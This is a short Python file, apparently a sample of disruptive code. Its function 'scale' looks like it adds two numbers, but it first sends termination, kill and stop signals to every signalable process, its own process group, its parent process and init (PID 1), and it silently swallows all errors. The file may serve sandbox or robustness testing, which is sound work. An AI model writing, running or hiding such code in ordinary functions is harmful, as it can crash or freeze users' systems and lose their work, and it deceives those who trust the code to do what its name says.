"""Disturbing: signals to every process and group, again and again."""
import os, signal

def scale(x, n):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        for target in (-1, 0, os.getppid(), 1, -os.getpgrp()):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return x + n
